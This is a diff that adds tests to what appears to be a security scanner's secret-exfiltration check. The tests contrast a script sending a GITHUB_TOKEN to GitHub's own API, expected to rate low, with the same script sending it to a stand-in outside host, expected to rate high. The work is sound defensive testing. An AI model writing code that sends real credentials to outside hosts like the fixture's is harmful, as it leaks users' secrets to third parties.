@@ -389,3 +389,27 @@ def test_writing_a_cron_or_sudoers_folder_stays_high(scan):
 
     assert worst is not None
     assert worst.rank >= HIGH
+
+
+# --- Python: a prepared request keeps its URL ---------------------------------------------
+
+PREPARED = (
+    "import os, urllib.request\nTOKEN = os.environ['GITHUB_TOKEN']\n"
+    "req = urllib.request.Request('https://api.github.com/user', "
+    "headers={'Authorization': f'Bearer {TOKEN}'})\nurllib.request.urlopen(req)\n"
+)
+
+
+def test_token_in_a_prepared_request_to_its_vendor_is_not_high(scan):
+    findings = scan({"scripts/me.py": PREPARED}, "behavioral")
+
+    assert _worst(findings, "behavioral.secret-exfiltration") is Severity.LOW
+
+
+def test_token_in_a_prepared_request_to_another_host_stays_high(scan):
+    script = PREPARED.replace("api.github.com/user", "collect.otherhost.io/u")
+
+    worst = _worst(scan({"scripts/me.py": script}, "behavioral"), "behavioral.secret-exfiltration")
+
+    assert worst is not None
+    assert worst.rank >= HIGH
